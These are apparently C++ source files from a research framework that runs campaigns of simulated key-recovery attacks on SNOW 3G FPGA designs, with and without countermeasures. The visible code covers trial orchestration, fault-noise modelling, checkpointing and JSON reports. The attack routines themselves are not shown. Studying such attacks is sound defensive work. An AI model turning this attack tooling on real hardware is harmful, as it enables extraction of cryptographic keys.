  attack::Oracle& oracle = noisy ? static_cast<attack::Oracle&>(faulty) : device;

  runtime::ProbeCache cache;
  attack::PipelineConfig cfg;
  cfg.words = options.words;
  cfg.iv = iv;
  if (options.use_probe_cache) cfg.cache = &cache;
  if (options.scan_parallel) cfg.find.pool = pool;
  if (noisy) cfg.retry = runtime::RetryPolicy::voting(3);
  attack::Attack attack(oracle, sys.golden.bytes, cfg);
  const attack::AttackResult res = attack.execute();

  out.attack_success = res.success;
  out.key_match = res.success && res.secrets.key == sys_opt.key;
  out.expected = out.protected_variant ? !res.success : out.key_match;
  out.partial = res.partial;
  out.failure = res.failure;
  out.oracle_runs = res.oracle_runs;
  out.cache_hits = res.cache_hits;
  out.probe_calls = res.probe_calls;
  out.phase_runs = res.phase_runs;
  out.physical_runs = res.physical_runs;
  out.retry_runs = res.retry_runs;
  out.vote_runs = res.vote_runs;
  out.corruption_detections = res.corruption_detections;
  out.transient_rejections = res.transient_rejections;
  out.wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  span.arg("oracle_runs", out.oracle_runs);
  span.arg("expected", out.expected ? 1 : 0);
  static obs::Counter& trial_counter = obs::MetricsRegistry::global().counter("campaign.trials");
  trial_counter.add();
  return out;
}

CampaignReport run_campaign(const CampaignOptions& options) {
  const auto start = std::chrono::steady_clock::now();
  obs::Span span("campaign", "run_campaign", "trials", options.trials);
  CampaignReport report;
  report.options = options;

  // Resume: trials the checkpoint file already covers are answered from it
  // verbatim instead of being re-run.  The signature check rejects files
  // from a different campaign (other seed, trial count, noise, ...).
  std::vector<TrialOutcome> resumed(options.trials);
  std::vector<char> have(options.trials, 0);
  std::vector<TrialOutcome> saved;  // checkpoint contents, under save_mutex
  if (options.resume && !options.checkpoint_path.empty()) {
    if (auto cp = load_checkpoint(options.checkpoint_path, options)) {
      for (TrialOutcome& t : cp->completed) {
        if (t.index < options.trials && !have[t.index]) {
          have[t.index] = 1;
          resumed[t.index] = t;
          saved.push_back(std::move(t));
          ++report.resumed_trials;
        }
      }
      if (options.verbose) {
        std::printf("[campaign] resumed %zu/%zu trials from %s\n", report.resumed_trials,
                    options.trials, options.checkpoint_path.c_str());
      }
    }
  }

  runtime::ThreadPool pool(options.threads);
  report.threads_used = pool.concurrency();
  runtime::ThreadPool* scan_pool = pool.concurrency() > 1 ? &pool : nullptr;

  // Compile the shared pattern indexes of the standard scan families once,
  // up front: trials fanning out below hit the cache instead of racing to
  // build identical indexes on first use.
  attack::warm_scan_indexes();

  std::mutex save_mutex;
  auto record = [&](const TrialOutcome& out) {
    if (options.checkpoint_path.empty()) return;
    const std::lock_guard<std::mutex> lock(save_mutex);
    saved.push_back(out);
    save_checkpoint(options.checkpoint_path, options, saved);
  };

  // Trial-level fan-out; parallel_map keeps the outcomes in trial order.
  report.trials = runtime::parallel_map(
      pool.concurrency() > 1 ? &pool : nullptr, options.trials,
      [&](size_t i) {
        if (have[i]) return resumed[i];
        TrialOutcome out = run_trial(options, i, scan_pool);
        record(out);
        if (options.verbose) {
          std::printf("[campaign] trial %zu/%zu: %s%s (%zu oracle runs, %zu cache hits, %.1fs)\n",
                      i + 1, options.trials, out.protected_variant ? "protected, " : "",
                      out.expected ? "as expected" : "UNEXPECTED", out.oracle_runs,
                      out.cache_hits, out.wall_seconds);
        }
        return out;
      },
      /*min_grain=*/1);

  for (const TrialOutcome& t : report.trials) {
    if (t.protected_variant) {
      ++report.protected_trials;
      report.protected_resisted += t.expected ? 1 : 0;
    } else {
      ++report.unprotected_trials;
      report.unprotected_successes += t.key_match ? 1 : 0;
    }
    report.total_oracle_runs += t.oracle_runs;
    report.total_cache_hits += t.cache_hits;
    report.total_probe_calls += t.probe_calls;
    report.total_physical_runs += t.physical_runs;
    report.total_retry_runs += t.retry_runs;
    report.total_vote_runs += t.vote_runs;
    report.total_corruption_detections += t.corruption_detections;
    for (const auto& [phase, runs] : t.phase_runs) {
      bool found = false;
      for (auto& [name, total] : report.phase_run_totals) {
        if (name == phase) {
          total += runs;
          found = true;
        }
      }
      if (!found) report.phase_run_totals.emplace_back(phase, runs);
    }
  }
  report.scan_index_cache_entries = attack::pattern_index_cache_size();
  report.wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  if (report.resumed_trials != 0) {
    obs::MetricsRegistry::global().counter("campaign.trials_resumed").add(report.resumed_trials);
  }
  span.arg("resumed", report.resumed_trials);
  return report;
}

bool CampaignReport::all_expected() const {
  for (const TrialOutcome& t : trials) {
    if (!t.expected) return false;
  }
  return true;
}

u64 CampaignReport::fingerprint() const {
  u64 h = mix64(trials.size());
  auto fold = [&h](u64 v) { h = mix64(h ^ (v + 0x9e3779b97f4a7c15ull)); };
  for (const TrialOutcome& t : trials) {
    fold(t.index);
    fold(t.trial_seed);
    fold(t.protected_variant ? 1 : 2);
    fold(t.attack_success ? 1 : 2);
    fold(t.key_match ? 1 : 2);
    fold(t.expected ? 1 : 2);
    fold(t.failure.size());
    for (const char c : t.failure) fold(static_cast<u64>(static_cast<unsigned char>(c)));
    fold(t.oracle_runs);
    fold(t.cache_hits);
    fold(t.probe_calls);
    fold(t.lut_sites);
    for (const auto& [phase, runs] : t.phase_runs) {
      fold(phase.size());
      fold(runs);
    }
  }
  return h;
}

std::string CampaignReport::to_json() const {
  JsonWriter w;
  w.begin_object();
  w.key("options").begin_object();
  w.field("trials", options.trials)
      .field("threads", u64{options.threads})
      .field("seed", options.seed)
      .field("protected_every", options.protected_every)
      .field("words", options.words)
      .field("use_probe_cache", options.use_probe_cache)
      .field("scan_parallel", options.scan_parallel)
      .field("batch_width", u64{options.batch_width});
  w.key("noise").begin_object();
  w.field("transient_reject", options.noise.transient_reject)
      .field("bit_flip", options.noise.bit_flip)
      .field("truncate", options.noise.truncate)
      .field("timeout", options.noise.timeout)
      .field("death", options.noise.death)
      .field("seed", options.noise.seed);
  w.end_object();
  w.end_object();

  w.key("aggregate").begin_object();
  w.field("threads_used", u64{threads_used})
      .field("unprotected_trials", unprotected_trials)
      .field("unprotected_successes", unprotected_successes)
      .field("protected_trials", protected_trials)
      .field("protected_resisted", protected_resisted)
      .field("all_expected", all_expected())
      .field("total_oracle_runs", total_oracle_runs)
      .field("total_cache_hits", total_cache_hits)
      .field("total_probe_calls", total_probe_calls)
      .field("total_physical_runs", total_physical_runs)
      .field("total_retry_runs", total_retry_runs)
      .field("total_vote_runs", total_vote_runs)
      .field("total_corruption_detections", total_corruption_detections)
      .field("resumed_trials", resumed_trials)
      .field("scan_index_cache_entries", scan_index_cache_entries)
      .field("wall_seconds", wall_seconds)
      .field("fingerprint", fingerprint());
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : phase_run_totals) w.field(phase, runs);
  w.end_object();
  w.end_object();

  // Canonical metrics block (DESIGN.md §4g).  Same deterministic totals the
  // aggregate carries under its historical total_* names — those stay as
  // aliases so existing consumers keep working.
  w.key("metrics").begin_object();
  w.field("oracle_runs", total_oracle_runs)
      .field("cache_hits", total_cache_hits)
      .field("probe_calls", total_probe_calls)
      .field("physical_runs", total_physical_runs)
      .field("retry_runs", total_retry_runs)
      .field("vote_runs", total_vote_runs)
      .field("corruption_detections", total_corruption_detections)
      .field("resumed_trials", resumed_trials)
      .field("scan_index_cache_entries", scan_index_cache_entries);
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : phase_run_totals) w.field(phase, runs);
  w.end_object();
  w.end_object();

  w.key("trials").begin_array();
  for (const TrialOutcome& t : trials) write_trial(w, t);
  w.end_array();
  w.end_object();
  return w.str();
}

}  // namespace sbm::campaign
