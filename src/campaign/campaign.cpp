#include "campaign/campaign.h"

#include <bit>
#include <chrono>

#include "attack/cracker.h"
#include "attack/pipeline.h"
#include "campaign/checkpoint.h"
#include "campaign/orchestrator.h"
#include "common/json.h"
#include "common/rng.h"
#include "faultsim/faulty_oracle.h"
#include "fleet/fleet.h"
#include "fpga/system.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"
#include "runtime/thread_pool.h"

namespace sbm::campaign {

namespace {

bool is_protected_trial(const CampaignOptions& options, size_t index) {
  return options.protected_every != 0 && index % options.protected_every ==
                                             options.protected_every - 1;
}

}  // namespace

TrialOutcome run_trial(const CampaignOptions& options, size_t index, runtime::ThreadPool* pool) {
  const auto start = std::chrono::steady_clock::now();
  obs::Span span("campaign", "trial", "index", index);
  TrialOutcome out;
  out.index = index;
  out.trial_seed = mix64(options.seed ^ (0x9e3779b97f4a7c15ull * (index + 1)));
  out.crack = options.kind == "crack";
  // A crack trial always targets a protected victim — that is what it is
  // disambiguating; `equalized` picks the strengthened variant.
  out.protected_variant = out.crack || is_protected_trial(options, index);

  // All trial randomness — victim key, host IV, placement scatter — derives
  // from the trial seed, never from global state, so trials are independent
  // of scheduling order.  The draw order (key x4, placement seed, IV x4) is
  // shared by both trial kinds so a seed identifies one victim.
  Rng rng(out.trial_seed);
  fpga::SystemOptions sys_opt;
  sys_opt.protected_variant = out.protected_variant;
  sys_opt.equalized = out.crack && options.equalized;
  sys_opt.key = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  sys_opt.packing.placement_seed = rng.next_u64();
  const snow3g::Iv iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};

  const fpga::System sys = fpga::build_system(sys_opt);
  out.lut_sites = sys.placed.phys.size();

  attack::DeviceOracle device(sys, iv, options.scan_parallel ? pool : nullptr,
                              options.batch_width);
  // Non-quiet noise: wrap the device in the fault model (noise stream
  // re-seeded per trial so trials stay independent) and confirm every probe
  // by agreement voting.  The logical metrics are unchanged by construction.
  const bool noisy = !options.noise.quiet();
  faultsim::NoiseProfile noise = options.noise;
  noise.seed = mix64(options.noise.seed ^ out.trial_seed);
  faultsim::FaultyOracle faulty(device, noise);
  // fleet_size >= 2: run the trial against a health-tracked board pool
  // (DESIGN.md §4k) so a board death migrates in-flight probes to a spare
  // instead of aborting the trial.  Each board derives its own fault stream
  // from the per-trial noise seed; the fleet is used even with quiet noise
  // so the options knob alone decides the topology.
  std::optional<fleet::FleetOracle> fleet;
  if (options.fleet_size >= 2) {
    fleet::FleetOptions fleet_opt;
    fleet_opt.boards = options.fleet_size;
    fleet_opt.noise = noise;
    fleet_opt.noise_factors = options.fleet_noise_factors;
    fleet_opt.hedge = options.fleet_hedge;
    fleet.emplace(sys, iv, fleet_opt, options.scan_parallel ? pool : nullptr,
                  options.batch_width);
  }
  attack::Oracle& oracle =
      fleet ? static_cast<attack::Oracle&>(*fleet)
            : (noisy ? static_cast<attack::Oracle&>(faulty) : device);

  runtime::ProbeCache cache;
  // Shared probe-layer policy for both trial kinds.  A fleet needs a
  // retrying policy even under quiet noise: migration is driven by the retry
  // layer re-demanding the timeouts a dying board left.
  runtime::RetryPolicy retry;
  if (noisy) {
    retry = runtime::RetryPolicy::voting(3);
  } else if (fleet) {
    retry = runtime::RetryPolicy::voting(1);
  }
  runtime::AdaptiveConfig adaptive;
  if (options.controller == runtime::ControllerKind::kAdaptive) {
    // The profile's rates are campaign knowledge, so seed the sequential
    // test's corruption prior from them (the per-trial seed only moves the
    // noise stream, never the rates).
    adaptive = faultsim::adaptive_config_for(noise, options.words);
  }

  if (out.crack) {
    attack::CrackerConfig cfg;
    cfg.words = options.words;
    if (options.use_probe_cache) cfg.cache = &cache;
    if (options.scan_parallel) cfg.find.pool = pool;
    cfg.retry = retry;
    cfg.controller = options.controller;
    cfg.adaptive = adaptive;
    attack::Cracker cracker(oracle, sys.golden.bytes, cfg);
    const attack::CrackResult res = cracker.execute();

    out.attack_success = res.success;
    out.crack_unique = res.unique;
    out.crack_proven_ambiguous = res.proven_ambiguous;
    // The cracker "wins" when its verdict matches the variant: unique
    // identification against the plain countermeasure, a proof of ambiguity
    // against the response-equalized one.
    out.expected = res.success &&
                   (options.equalized ? res.proven_ambiguous : res.unique);
    out.failure = res.failure;
    out.crack_candidates = res.candidates;
    out.adaptive_probes = res.adaptive_probes;
    out.log2_static_bound = res.log2_static_bound;
    out.log2_final = res.log2_hypotheses_final;
    out.oracle_runs = res.adaptive_probes;
    out.cache_hits = res.cache_hits;
    out.probe_calls = res.probe_calls;
    out.physical_runs = oracle.runs();
    out.retry_runs = res.retry_stats.retry_runs;
    out.vote_runs = res.retry_stats.vote_runs;
    out.migration_runs = oracle.internal_runs();
    out.corruption_detections = res.retry_stats.corruptions;
    out.transient_rejections = res.retry_stats.transient_rejections;
  } else {
    attack::PipelineConfig cfg;
    cfg.words = options.words;
    cfg.iv = iv;
    if (options.use_probe_cache) cfg.cache = &cache;
    if (options.scan_parallel) cfg.find.pool = pool;
    cfg.retry = retry;
    cfg.controller = options.controller;
    cfg.adaptive = adaptive;
    attack::Attack attack(oracle, sys.golden.bytes, cfg);
    const attack::AttackResult res = attack.execute();

    out.attack_success = res.success;
    out.key_match = res.success && res.secrets.key == sys_opt.key;
    out.expected = out.protected_variant ? !res.success : out.key_match;
    out.partial = res.partial;
    out.failure = res.failure;
    out.oracle_runs = res.oracle_runs;
    out.cache_hits = res.cache_hits;
    out.probe_calls = res.probe_calls;
    out.phase_runs = res.phase_runs;
    out.physical_runs = res.physical_runs;
    out.retry_runs = res.retry_runs;
    out.vote_runs = res.vote_runs;
    out.migration_runs = res.migration_runs;
    out.corruption_detections = res.corruption_detections;
    out.transient_rejections = res.transient_rejections;
  }
  out.wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  span.arg("oracle_runs", out.oracle_runs);
  span.arg("expected", out.expected ? 1 : 0);
  static obs::Counter& trial_counter = obs::MetricsRegistry::global().counter("campaign.trials");
  trial_counter.add();
  return out;
}

CampaignReport run_campaign(const CampaignOptions& options) {
  // The full orchestration (resume, fan-out, checkpointing, aggregation)
  // lives in Orchestrator::run; this entry point is the CLI-flavoured
  // configuration of it — own pool, no cancellation, no hooks.
  return Orchestrator().run(options);
}

void CampaignReport::accumulate(const TrialOutcome& t) {
  if (t.crack) {
    ++crack_trials;
    crack_unique_verdicts += t.crack_unique ? 1 : 0;
    crack_ambiguous_verdicts += t.crack_proven_ambiguous ? 1 : 0;
    total_adaptive_probes += t.adaptive_probes;
  } else if (t.protected_variant) {
    ++protected_trials;
    protected_resisted += t.expected ? 1 : 0;
  } else {
    ++unprotected_trials;
    unprotected_successes += t.key_match ? 1 : 0;
  }
  total_oracle_runs += t.oracle_runs;
  total_cache_hits += t.cache_hits;
  total_probe_calls += t.probe_calls;
  total_physical_runs += t.physical_runs;
  total_retry_runs += t.retry_runs;
  total_vote_runs += t.vote_runs;
  total_migration_runs += t.migration_runs;
  total_corruption_detections += t.corruption_detections;
  for (const auto& [phase, runs] : t.phase_runs) {
    bool found = false;
    for (auto& [name, total] : phase_run_totals) {
      if (name == phase) {
        total += runs;
        found = true;
      }
    }
    if (!found) phase_run_totals.emplace_back(phase, runs);
  }
}

void CampaignReport::write_metrics(JsonWriter& w) const {
  w.begin_object();
  w.field("oracle_runs", total_oracle_runs)
      .field("cache_hits", total_cache_hits)
      .field("probe_calls", total_probe_calls)
      .field("physical_runs", total_physical_runs)
      .field("retry_runs", total_retry_runs)
      .field("vote_runs", total_vote_runs)
      .field("migration_runs", total_migration_runs)
      .field("corruption_detections", total_corruption_detections)
      .field("resumed_trials", resumed_trials)
      .field("scan_index_cache_entries", scan_index_cache_entries);
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : phase_run_totals) w.field(phase, runs);
  w.end_object();
  w.end_object();
}

bool CampaignReport::all_expected() const {
  for (const TrialOutcome& t : trials) {
    if (!t.expected) return false;
  }
  return true;
}

u64 CampaignReport::fingerprint() const {
  u64 h = mix64(trials.size());
  auto fold = [&h](u64 v) { h = mix64(h ^ (v + 0x9e3779b97f4a7c15ull)); };
  for (const TrialOutcome& t : trials) {
    fold(t.index);
    fold(t.trial_seed);
    fold(t.protected_variant ? 1 : 2);
    fold(t.attack_success ? 1 : 2);
    fold(t.key_match ? 1 : 2);
    fold(t.expected ? 1 : 2);
    fold(t.failure.size());
    for (const char c : t.failure) fold(static_cast<u64>(static_cast<unsigned char>(c)));
    fold(t.oracle_runs);
    fold(t.cache_hits);
    fold(t.probe_calls);
    fold(t.lut_sites);
    for (const auto& [phase, runs] : t.phase_runs) {
      fold(phase.size());
      fold(runs);
    }
    if (t.crack) {
      fold(t.crack_unique ? 1 : 2);
      fold(t.crack_proven_ambiguous ? 1 : 2);
      fold(t.crack_candidates);
      fold(t.adaptive_probes);
      fold(std::bit_cast<u64>(t.log2_static_bound));
      fold(std::bit_cast<u64>(t.log2_final));
    }
  }
  return h;
}

std::string CampaignReport::to_json() const {
  JsonWriter w;
  w.begin_object();
  w.key("options");
  write_options(w, options);

  w.key("aggregate").begin_object();
  w.field("threads_used", u64{threads_used})
      .field("unprotected_trials", unprotected_trials)
      .field("unprotected_successes", unprotected_successes)
      .field("protected_trials", protected_trials)
      .field("protected_resisted", protected_resisted)
      .field("crack_trials", crack_trials)
      .field("crack_unique_verdicts", crack_unique_verdicts)
      .field("crack_ambiguous_verdicts", crack_ambiguous_verdicts)
      .field("total_adaptive_probes", total_adaptive_probes)
      .field("all_expected", all_expected())
      .field("total_oracle_runs", total_oracle_runs)
      .field("total_cache_hits", total_cache_hits)
      .field("total_probe_calls", total_probe_calls)
      .field("total_physical_runs", total_physical_runs)
      .field("total_retry_runs", total_retry_runs)
      .field("total_vote_runs", total_vote_runs)
      .field("total_migration_runs", total_migration_runs)
      .field("total_corruption_detections", total_corruption_detections)
      .field("resumed_trials", resumed_trials)
      .field("scan_index_cache_entries", scan_index_cache_entries)
      .field("wall_seconds", wall_seconds)
      .field("fingerprint", fingerprint());
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : phase_run_totals) w.field(phase, runs);
  w.end_object();
  w.end_object();

  // Canonical metrics block (DESIGN.md §4g).  Same deterministic totals the
  // aggregate carries under its historical total_* names — those stay as
  // aliases so existing consumers keep working.
  w.key("metrics");
  write_metrics(w);

  w.key("trials").begin_array();
  for (const TrialOutcome& t : trials) write_trial(w, t);
  w.end_array();
  w.end_object();
  return w.str();
}

}  // namespace sbm::campaign
