#include "campaign/orchestrator.h"

#include <chrono>
#include <cstdio>
#include <mutex>
#include <optional>

#include "attack/scan.h"
#include "attack/scan_engine.h"
#include "campaign/checkpoint.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "runtime/parallel.h"
#include "runtime/thread_pool.h"

namespace sbm::campaign {

CampaignReport Orchestrator::run(const CampaignOptions& options, const Hooks& hooks) const {
  const auto start = std::chrono::steady_clock::now();
  obs::Span span("campaign", "run_campaign", "trials", options.trials);
  CampaignReport report;
  report.options = options;

  // Resume: trials the checkpoint file already covers are answered from it
  // verbatim instead of being re-run.  The signature check rejects files
  // from a different campaign (other seed, trial count, noise, ...).
  std::vector<TrialOutcome> resumed(options.trials);
  std::vector<char> have(options.trials, 0);
  std::vector<TrialOutcome> saved;  // checkpoint contents, under record_mutex
  if (options.resume && !options.checkpoint_path.empty()) {
    if (auto cp = load_checkpoint(options.checkpoint_path, options)) {
      for (TrialOutcome& t : cp->completed) {
        if (t.index < options.trials && !have[t.index]) {
          have[t.index] = 1;
          resumed[t.index] = t;
          saved.push_back(std::move(t));
          ++report.resumed_trials;
        }
      }
      if (options.verbose) {
        std::printf("[campaign] resumed %zu/%zu trials from %s\n", report.resumed_trials,
                    options.trials, options.checkpoint_path.c_str());
      }
    }
  }

  // CLI-style runs own a pool sized by options.threads; daemon-style runs
  // share the externally supplied one (which may be null = serial).
  std::optional<runtime::ThreadPool> owned;
  runtime::ThreadPool* pool = pool_;
  if (!external_pool_) {
    owned.emplace(options.threads);
    pool = &*owned;
  }
  report.threads_used = pool != nullptr ? pool->concurrency() : 1;
  runtime::ThreadPool* fan_pool = report.threads_used > 1 ? pool : nullptr;
  runtime::ThreadPool* scan_pool = fan_pool;

  // Compile the shared pattern indexes of the standard scan families once,
  // up front: trials fanning out below hit the cache instead of racing to
  // build identical indexes on first use.
  attack::warm_scan_indexes();

  const TrialFn trial = hooks.trial_fn ? hooks.trial_fn : TrialFn(&run_trial);
  std::mutex record_mutex;
  size_t completed = report.resumed_trials;
  auto record = [&](const TrialOutcome& out) {
    const std::lock_guard<std::mutex> lock(record_mutex);
    if (!options.checkpoint_path.empty()) {
      saved.push_back(out);
      save_checkpoint(options.checkpoint_path, options, saved);
    }
    ++completed;
    if (hooks.on_trial) hooks.on_trial(out, completed, options.trials);
  };

  // Trial-level fan-out; parallel_map keeps the outcomes in trial order.
  // `ran[i]` clears when trial i was skipped by cancellation — those slots
  // are compacted out below so a cancelled report carries only real trials.
  std::vector<char> ran(options.trials, 1);
  report.trials = runtime::parallel_map(
      fan_pool, options.trials,
      [&](size_t i) {
        if (have[i]) return resumed[i];
        if (hooks.cancel != nullptr && hooks.cancel->load(std::memory_order_relaxed)) {
          ran[i] = 0;
          return TrialOutcome{};
        }
        TrialOutcome out = trial(options, i, options.scan_parallel ? scan_pool : nullptr);
        record(out);
        if (options.verbose) {
          std::printf("[campaign] trial %zu/%zu: %s%s (%zu oracle runs, %zu cache hits, %.1fs)\n",
                      i + 1, options.trials, out.protected_variant ? "protected, " : "",
                      out.expected ? "as expected" : "UNEXPECTED", out.oracle_runs,
                      out.cache_hits, out.wall_seconds);
        }
        return out;
      },
      /*min_grain=*/1);

  size_t kept = 0;
  for (size_t i = 0; i < report.trials.size(); ++i) {
    if (ran[i]) {
      if (kept != i) report.trials[kept] = std::move(report.trials[i]);
      ++kept;
    }
  }
  report.cancelled_trials = report.trials.size() - kept;
  report.trials.resize(kept);

  for (const TrialOutcome& t : report.trials) report.accumulate(t);
  report.scan_index_cache_entries = attack::pattern_index_cache_size();
  report.wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  if (report.resumed_trials != 0) {
    obs::MetricsRegistry::global().counter("campaign.trials_resumed").add(report.resumed_trials);
  }
  span.arg("resumed", report.resumed_trials);
  return report;
}

}  // namespace sbm::campaign
