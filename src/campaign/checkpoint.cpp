#include "campaign/checkpoint.h"

#include <bit>

#include "common/fsio.h"
#include "common/json.h"
#include "simd/backend.h"

namespace sbm::campaign {

namespace {

// v2: options carry the probe-confirmation controller kind (DESIGN.md §4j);
// it is folded into the signature because resuming a static-vote campaign
// with the adaptive controller (or vice versa) would splice trials whose
// physical-layer accounting disagrees.
// v3: fleet topology (fleet_size, per-board noise factors, hedging —
// DESIGN.md §4k) joins the signature for the same reason; trial records
// carry migration_runs.  deadline_seconds stays out, like threads: it
// decides when a run stops, never what it computes.
// v4: the job kind ("attack" | "crack") and the crack-campaign `equalized`
// flag join the signature — an attack checkpoint must never seed a crack
// campaign of the same seed; crack trial records carry the verdict and the
// adaptive-probe accounting.
constexpr u64 kCheckpointVersion = 4;

}  // namespace

u64 options_signature(const CampaignOptions& options) {
  u64 h = mix64(kCheckpointVersion);
  auto fold = [&h](u64 v) { h = mix64(h ^ (v + 0x9e3779b97f4a7c15ull)); };
  fold(options.trials);
  fold(options.seed);
  fold(options.protected_every);
  fold(options.kind.size());
  for (const char c : options.kind) fold(static_cast<u64>(static_cast<unsigned char>(c)));
  fold(options.equalized ? 1 : 2);
  fold(options.words);
  fold(options.use_probe_cache ? 1 : 2);
  fold(std::bit_cast<u64>(options.noise.transient_reject));
  fold(std::bit_cast<u64>(options.noise.bit_flip));
  fold(std::bit_cast<u64>(options.noise.truncate));
  fold(std::bit_cast<u64>(options.noise.timeout));
  fold(std::bit_cast<u64>(options.noise.death));
  fold(options.noise.seed);
  fold(static_cast<u64>(options.controller) + 1);
  fold(options.fleet_size);
  fold(options.fleet_hedge ? 1 : 2);
  fold(options.fleet_noise_factors.size());
  for (const double f : options.fleet_noise_factors) fold(std::bit_cast<u64>(f));
  return h;
}

void write_trial(JsonWriter& w, const TrialOutcome& t) {
  w.begin_object();
  w.field("index", t.index)
      .field("trial_seed", t.trial_seed)
      .field("protected", t.protected_variant)
      .field("attack_success", t.attack_success)
      .field("key_match", t.key_match)
      .field("expected", t.expected)
      .field("partial", t.partial)
      .field("failure", t.failure)
      .field("oracle_runs", t.oracle_runs)
      .field("cache_hits", t.cache_hits)
      .field("probe_calls", t.probe_calls)
      .field("lut_sites", t.lut_sites)
      .field("physical_runs", t.physical_runs)
      .field("retry_runs", t.retry_runs)
      .field("vote_runs", t.vote_runs)
      .field("migration_runs", t.migration_runs)
      .field("corruption_detections", t.corruption_detections)
      .field("transient_rejections", t.transient_rejections)
      .field("wall_seconds", t.wall_seconds);
  if (t.crack) {
    // "adaptive_probes_to_unique" is the headline crack metric: physical
    // configurations to the verdict, vs the static log2 bound next to it.
    w.field("crack", true)
        .field("crack_unique", t.crack_unique)
        .field("crack_proven_ambiguous", t.crack_proven_ambiguous)
        .field("crack_candidates", t.crack_candidates)
        .field("adaptive_probes_to_unique", t.adaptive_probes)
        .field("log2_static_bound", t.log2_static_bound)
        .field("log2_hypotheses_final", t.log2_final);
  }
  w.key("phase_runs").begin_object();
  for (const auto& [phase, runs] : t.phase_runs) w.field(phase, runs);
  w.end_object();
  w.end_object();
}

std::optional<TrialOutcome> trial_from_json(const JsonValue& v) {
  if (!v.is_object()) return std::nullopt;
  const JsonValue* index = v.find("index");
  const JsonValue* trial_seed = v.find("trial_seed");
  const JsonValue* phase_runs = v.find("phase_runs");
  if (index == nullptr || trial_seed == nullptr || phase_runs == nullptr ||
      !phase_runs->is_object()) {
    return std::nullopt;
  }
  TrialOutcome t;
  t.index = static_cast<size_t>(index->as_u64());
  t.trial_seed = trial_seed->as_u64();
  auto get_bool = [&](const char* name, bool& out) {
    if (const JsonValue* f = v.find(name)) out = f->as_bool();
  };
  auto get_size = [&](const char* name, size_t& out) {
    if (const JsonValue* f = v.find(name)) out = static_cast<size_t>(f->as_u64());
  };
  get_bool("protected", t.protected_variant);
  get_bool("attack_success", t.attack_success);
  get_bool("key_match", t.key_match);
  get_bool("expected", t.expected);
  get_bool("partial", t.partial);
  if (const JsonValue* f = v.find("failure")) t.failure = f->as_string();
  get_size("oracle_runs", t.oracle_runs);
  get_size("cache_hits", t.cache_hits);
  get_size("probe_calls", t.probe_calls);
  get_size("lut_sites", t.lut_sites);
  get_size("physical_runs", t.physical_runs);
  get_size("retry_runs", t.retry_runs);
  get_size("vote_runs", t.vote_runs);
  get_size("migration_runs", t.migration_runs);
  get_size("corruption_detections", t.corruption_detections);
  get_size("transient_rejections", t.transient_rejections);
  get_bool("crack", t.crack);
  get_bool("crack_unique", t.crack_unique);
  get_bool("crack_proven_ambiguous", t.crack_proven_ambiguous);
  get_size("crack_candidates", t.crack_candidates);
  get_size("adaptive_probes_to_unique", t.adaptive_probes);
  if (const JsonValue* f = v.find("log2_static_bound")) t.log2_static_bound = f->as_double();
  if (const JsonValue* f = v.find("log2_hypotheses_final")) t.log2_final = f->as_double();
  if (const JsonValue* f = v.find("wall_seconds")) t.wall_seconds = f->as_double();
  for (const auto& [name, runs] : phase_runs->members) {
    t.phase_runs.emplace_back(name, static_cast<size_t>(runs.as_u64()));
  }
  return t;
}

void write_options(JsonWriter& w, const CampaignOptions& options) {
  w.begin_object();
  w.field("trials", options.trials)
      .field("threads", u64{options.threads})
      .field("seed", options.seed)
      .field("protected_every", options.protected_every)
      .field("kind", options.kind)
      .field("equalized", options.equalized)
      .field("words", options.words)
      .field("use_probe_cache", options.use_probe_cache)
      .field("scan_parallel", options.scan_parallel)
      .field("batch_width", u64{options.batch_width})
      .field("controller", runtime::controller_kind_name(options.controller))
      .field("fleet_size", u64{options.fleet_size})
      .field("fleet_hedge", options.fleet_hedge);
  w.key("fleet_noise_factors").begin_array();
  for (const double f : options.fleet_noise_factors) w.value(f);
  w.end_array();
  // Written only when set so default-option records round-trip: a present
  // non-positive deadline is malformed (service validation rejects it).
  if (options.deadline_seconds > 0) {
    w.field("deadline_seconds", options.deadline_seconds);
  }
  w.key("noise").begin_object();
  w.field("transient_reject", options.noise.transient_reject)
      .field("bit_flip", options.noise.bit_flip)
      .field("truncate", options.noise.truncate)
      .field("timeout", options.noise.timeout)
      .field("death", options.noise.death)
      .field("seed", options.noise.seed);
  w.end_object();
  w.end_object();
}

std::optional<CampaignOptions> options_from_json(const JsonValue& v) {
  if (!v.is_object()) return std::nullopt;
  CampaignOptions o;
  auto get_size = [&](const char* name, size_t& out) {
    if (const JsonValue* f = v.find(name)) out = static_cast<size_t>(f->as_u64());
  };
  get_size("trials", o.trials);
  if (const JsonValue* f = v.find("threads")) o.threads = static_cast<unsigned>(f->as_u64());
  if (const JsonValue* f = v.find("seed")) o.seed = f->as_u64();
  get_size("protected_every", o.protected_every);
  if (const JsonValue* f = v.find("kind")) {
    o.kind = f->as_string();
    // Unknown job kinds are malformed specs: the service answers 400.
    if (o.kind != "attack" && o.kind != "crack") return std::nullopt;
  }
  if (const JsonValue* f = v.find("equalized")) o.equalized = f->as_bool();
  get_size("words", o.words);
  if (const JsonValue* f = v.find("use_probe_cache")) o.use_probe_cache = f->as_bool(true);
  if (const JsonValue* f = v.find("scan_parallel")) o.scan_parallel = f->as_bool(true);
  if (const JsonValue* f = v.find("batch_width")) {
    o.batch_width = static_cast<unsigned>(f->as_u64(simd::kMaxLanes));
  }
  if (const JsonValue* f = v.find("controller")) {
    const auto kind = runtime::parse_controller_kind(f->as_string());
    if (!kind) return std::nullopt;  // service job validation rejects with 400
    o.controller = *kind;
  }
  if (const JsonValue* f = v.find("fleet_size")) {
    o.fleet_size = static_cast<unsigned>(f->as_u64(1));
    if (o.fleet_size == 0) return std::nullopt;
  }
  if (const JsonValue* f = v.find("fleet_hedge")) o.fleet_hedge = f->as_bool();
